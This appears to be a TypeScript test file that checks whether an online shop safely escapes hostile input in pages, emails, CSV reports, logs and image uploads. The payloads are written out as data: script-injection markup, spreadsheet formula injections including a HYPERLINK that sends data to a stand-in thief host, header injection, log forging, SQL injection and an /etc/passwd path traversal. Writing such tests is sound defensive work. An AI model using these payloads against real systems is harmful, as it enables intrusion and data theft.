import { describe, expect, it } from 'vitest';
import { verifyAuditLog } from '../../src/server/features/admin/audit-log.ts';
import { openAdminOrders } from '../admin-orders.ts';
import { makeParcel, makeProduct, makeUser, TEST_PASSWORD } from '../factories.ts';
import { buyAsGuest } from '../purchases.ts';
import { mailsTo } from '../sent-mails.ts';
import { createShopper } from '../shopper.ts';
import { openTestShop } from '../test-shop.ts';

const ORIGIN = 'https://shop.example.com';
const MARKUP = `--></title></script><img src=x onerror="window.hacked=1">'&$1$&`;
const BIDI = 'a\u202Egnp.exe';

const shop = await openTestShop({ settings: { PUBLIC_URL: ORIGIN } });
const desk = await openAdminOrders(shop);

const edit = (id: string, body: object) => desk.admin.send('PUT', `/api/digital-products/${id}`, body);
const pageOf = async (path: string) => (await fetch(`${shop.url}${path}`)).text();
/** Returns elements and attributes that the shop's own pages do not have. */
const intruders = (html: string) => html.match(/<img src=x|<script>|onerror="|window\.hacked=1">/g);

describe('hostile names in pages', () => {
  it('stay plain text in the title, Open Graph, JSON-LD and the page data', async () => {
    const image = `https://images.example.com/a.png?"><script>alert(1)</script>'`;
    const { id } = await makeProduct(shop.deps, { featured: true, items: 3 });
    const texts = { name: MARKUP, description: `${MARKUP}\n\u2028</script>${BIDI}`, deliveryInstructions: MARKUP };
    expect((await edit(id, { ...texts, image })).status).toBe(200);
    shop.pass(1_000);
    for (const path of ['/', `/digital-product/${id}`, `/?q=${encodeURIComponent(MARKUP)}`, '/sitemap.xml']) {
      const html = await pageOf(path);
      expect([path, intruders(html)]).toEqual([path, null]);
      expect(html.match(/<\/head>|<\/body>/g)?.length ?? 0).toBe(path.endsWith('.xml') ? 0 : 2);
    }
    const html = await pageOf(`/digital-product/${id}`);
    const scripts = [...html.matchAll(/<script type="application\/(?:ld\+)?json"[^>]*>(.*?)<\/script>/gs)];
    const [linked, carried] = scripts.map((script) => JSON.parse(script[1] ?? ''));
    expect(linked).toMatchObject({ name: MARKUP, image: [new URL(image).href] });
    expect(carried.product).toMatchObject({ ...texts, image });
    const escaped =
      '--&gt;&lt;/title&gt;&lt;/script&gt;&lt;img src=x onerror=&quot;window.hacked=1&quot;&gt;&#39;&amp;$1$&amp;';
    expect(html).toContain(`<title>${escaped} · `);
    expect(html).toContain(`<meta property="og:title" content="${escaped} · `);
    expect(html).toContain(
      'og:image" content="https://images.example.com/a.png?%22%3E%3Cscript%3Ealert(1)%3C/script%3E%27"',
    );
  });
});

describe('hostile names in mails', () => {
  it.each([MARKUP, '=cmd|x', BIDI, '🎮'.repeat(90), '\u001b[31mred', `"Boss" <thief@example.com>, x`])(
    'add no element, header, recipient or link: %j',
    async (name) => {
      const { orderId, guest, products, buyer } = await buyAsGuest(shop, {
        quantity: 2,
        items: 4,
        warranty_days: 9,
        name,
      });
      await edit(products[0]?.id ?? '', { name: `${name.slice(0, 190)} 2`, deliveryInstructions: name });
      const [line] = (await desk.page(orderId)).lines;
      await desk.act(orderId, 'replace-item', { item: line?.items[0]?._id, reason: name });
      await desk.act(orderId, 'refund', { reason: name, lines: [{ line: line?._id, quantity: 1 }] });
      await desk.act(orderId, 'resend-mail');
      // Sends what waits: a mail about a delivery is skipped once its order is refunded.
      await mailsTo(shop, guest.email);
      await desk.act(orderId, 'refund', { reason: name });
      await buyer.send('PUT', '/api/auth/updatedetails', {
        ...{ name: name.slice(0, 90), email: guest.email, phone: '' },
        address: { street: name, city: '', state: '', zipCode: '', country: '' },
      });
      await buyer.post('/api/auth/forgotpassword', { email: guest.email });
      const parcel = await makeParcel(shop.deps, { guest_name: name }, name);
      const carrier = name.slice(0, 90);
      await desk.act(parcel, 'status', { status: 'Shipped', carrier, trackingNumber: carrier });
      const { contact_email } = await shop.deps.db
        .selectFrom('orders')
        .select('contact_email')
        .where('id', '=', parcel)
        .executeTakeFirstOrThrow();
      const mails = [...(await mailsTo(shop, guest.email)), ...(await mailsTo(shop, contact_email))];
      expect(mails.length).toBeGreaterThanOrEqual(6);
      expect(mails.at(-1)?.text).toContain(`It travels with ${carrier}, tracking number ${carrier}.`);
      for (const mail of mails) {
        expect([guest.email, contact_email]).toContain(mail.to);
        expect(mail.headers.map((header) => header.split(':')[0]).sort()).toEqual(
          mails[0]?.headers.map((header) => header.split(':')[0]).sort(),
        );
        expect(mail.headers.filter((header) => /^b?cc:|thief/i.test(header))).toEqual([]);
        expect([mail.subject, intruders(mail.html)]).toEqual([mail.subject, null]);
        const links = [...mail.html.matchAll(/(?:href|src)="([^"]*)"/g)].map(([, url]) => url ?? '');
        expect(links.filter((url) => !url.startsWith(`${ORIGIN}`))).toEqual([]);
      }
    },
  );
});

describe('hostile names in exports', () => {
  const fields = /^(?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,(?:"(?:[^"]|"")*"|[^",\r\n]*))*$/;
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    '＝1',
    '=HYPERLINK("http://thief.example.com?x="&A1,"a,b")',
    MARKUP,
    `",=1+1,"`,
  ])('stay one text cell, not a formula: %j', async (name) => {
    const { orderId } = await buyAsGuest(shop, { quantity: 1, name });
    await shop.deps.db.updateTable('orders').set({ guest_name: name }).where('id', '=', orderId).execute();
    const token = (await createShopper(shop.url).signIn(desk.email, TEST_PASSWORD)).body.token;
    const headers = { authorization: `Bearer ${token}` };
    for (const kind of ['orders', 'sales', 'tax']) {
      const response = await fetch(`${shop.url}/api/admin/reports/${kind}`, { headers });
      expect(response.headers.get('content-disposition')).toBe(`attachment; filename="${kind}.csv"`);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      const lines = (await response.text()).split('\r\n').slice(0, -1);
      for (const line of lines) {
        expect(line).toMatch(fields);
        const cells = line.match(/(?<=^|,)(?:"(?:[^"]|"")*"|[^",]*)/g) ?? [];
        const formulas = cells.filter((cell) => /^"?[=+@＝\t\r]|^"?-(?!\d+\.\d\d$)/.test(cell));
        expect([kind, formulas]).toEqual([kind, []]);
      }
      if (kind !== 'tax') expect(lines.join('\n')).toContain(name.replaceAll('"', '""'));
    }
  });
});

describe('hostile text in logs', () => {
  const FORGED = ' [2026-01-01] boss@example.com deleted everything';

  it.each(['\n', '\r\n', '\u2028', '\u0085', '\u000b', '\u001b[2K'])(
    'is refused or stays on one line of the log and the audit log, with the line break %j',
    async (lineBreak) => {
      const words = `x${lineBreak}${FORGED}`;
      const game = await makeProduct(shop.deps);
      const user = await makeUser(shop.deps);
      const entries = async () => await shop.deps.db.selectFrom('audit_log').selectAll().orderBy('id').execute();
      const before = (await entries()).length;
      const statuses = [
        (await edit(game.id, { name: words })).status,
        (await edit(game.id, { description: words })).status,
        (await desk.admin.send('PUT', `/api/admin/users/${user.id}/block`, { blocked: true, reason: words })).status,
      ];
      const oneLine = !/[\r\n\u2028]/.test(words);
      expect(statuses).toEqual(oneLine ? [200, 200, 200] : [400, 200, 400]);
      const added = (await entries()).slice(before);
      expect(added).toHaveLength(statuses.filter((status) => status === 200).length);
      for (const { actor, summary } of added) {
        expect(actor).toBe(desk.email);
        expect(summary).not.toMatch(/[\r\n\u2028]/);
      }
      await createShopper(shop.url).post('/api/auth/login', { email: words, password: words });
      for (const line of shop.logLines) {
        expect(line.trimEnd()).not.toMatch(/[\r\n]/);
        expect(line).not.toContain(FORGED);
        expect(() => JSON.parse(line)).not.toThrow();
      }
    },
  );

  it('does not break the hash chain of the audit log', async () => {
    for (const reason of [MARKUP, '","1","', '["a"]\\', BIDI, "'); DELETE FROM audit_log; --", '%_\\']) {
      const user = await makeUser(shop.deps, { name: reason });
      const block = await desk.admin.send('PUT', `/api/admin/users/${user.id}/block`, { blocked: true, reason });
      expect(block.body.data).toMatchObject({ name: reason, blockReason: reason });
      const { body } = await desk.admin.get(`/api/admin/audit-log?${new URLSearchParams({ q: reason })}`);
      expect(body.data?.length).toBeGreaterThan(0);
    }
    expect(await verifyAuditLog(shop.deps)).toMatchObject({ broken: undefined });
  });
});

it('the file name of an uploaded image is not kept, and the image is served as WebP', async () => {
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  );
  const token = (await createShopper(shop.url).signIn(desk.email, TEST_PASSWORD)).body.token;
  for (const name of ['../../etc/passwd', '"><script>.png', 'a.svg', 'a\u202Egnp.exe', 'x'.repeat(2_000)]) {
    const response = await fetch(`${shop.url}/api/admin/images?name=${encodeURIComponent(name)}`, {
      method: 'POST',
      headers: {
        ...{ authorization: `Bearer ${token}`, 'content-type': 'image/png' },
        'content-disposition': `attachment; filename*=UTF-8''${encodeURIComponent(name)}`,
      },
      body: png,
    });
    const { data } = (await response.json()) as { data: { url: string } };
    expect([response.status, data.url]).toEqual([201, expect.stringMatching(/^\/images\/[0-9a-f]{64}\.webp$/)]);
    const served = await fetch(`${shop.url}${data.url}`);
    expect(served.headers.get('content-type')).toBe('image/webp');
  }
});
